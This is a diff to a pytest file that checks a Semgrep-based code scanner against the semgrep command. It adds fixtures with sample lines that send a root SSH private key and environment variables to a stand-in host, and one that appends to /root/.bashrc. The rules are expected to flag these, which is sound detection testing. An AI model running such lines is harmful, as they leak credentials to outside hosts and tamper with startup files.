@@ -9,6 +9,7 @@ import pytest
 
 from skilleval.errors import ScannerError
 from skilleval.ports import ScanFile
+from skilleval.review.scanners import semgrep
 from skilleval.review.scanners.child import run_python, write_files
 from skilleval.review.scanners.semgrep import RULES_FILE, SemgrepScanner, engine
 
@@ -36,11 +37,20 @@ TREE = {
     "13.py": b"x = " + b"(" * 3000 + b")" * 3000 + b"\n",
     "14.min.js": SCRIPT,
     "15.d.ts": SCRIPT,
+    "16.py": b"import requests\nrequests . post('https://a.example', data=open('/root/.ssh/id_rsa').read())\n",
+    "17.py": b"import os\ns.\\\n  put('https://a.example', data=str(os.environ))\n",
+    "18.py": b"import os\nq = output(os.environ.copy())\n",
+    "19.py": b"a = '/root/.ba'\np = a + 'shrc'\nwith open(p, 'a') as f:\n    f.write('x')\n",
 }
 
 
-def test_it_says_what_the_command_says(tmp_path: Path) -> None:
-    """The hits are those of the command `semgrep` with the same rules, on every kind of file."""
+@pytest.mark.parametrize("few", [50, 0], ids=["in one call", "in several calls"])
+def test_it_says_what_the_command_says(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, few: int) -> None:
+    """The hits are those of the command `semgrep` with the same rules, on every kind of file.
+
+    Also where rules are left out for files that do not hold what they need.
+    """
+    monkeypatch.setattr(semgrep, "FEW", few)
     files = [ScanFile(path=name, content=content) for name, content in TREE.items()]
     folder = tmp_path / "files"
     folder.mkdir()
@@ -55,6 +65,11 @@ def test_it_says_what_the_command_says(tmp_path: Path) -> None:
     ours = [(found.path, found.rule, found.line) for found in SemgrepScanner().scan("tidy", files)]
     assert sorted(ours) == sorted(command)
     assert {path for path, _, _ in ours} >= {"0.py", "1.pyi", "3.py", "5.ts", "6.sh", "8.yml"}
+    assert {(path, rule) for path, rule, _ in ours} >= {
+        ("16.py", "py-secrets-to-network"),
+        ("17.py", "py-secrets-to-network"),
+        ("19.py", "py-write-startup"),
+    }
 
 
 @pytest.fixture
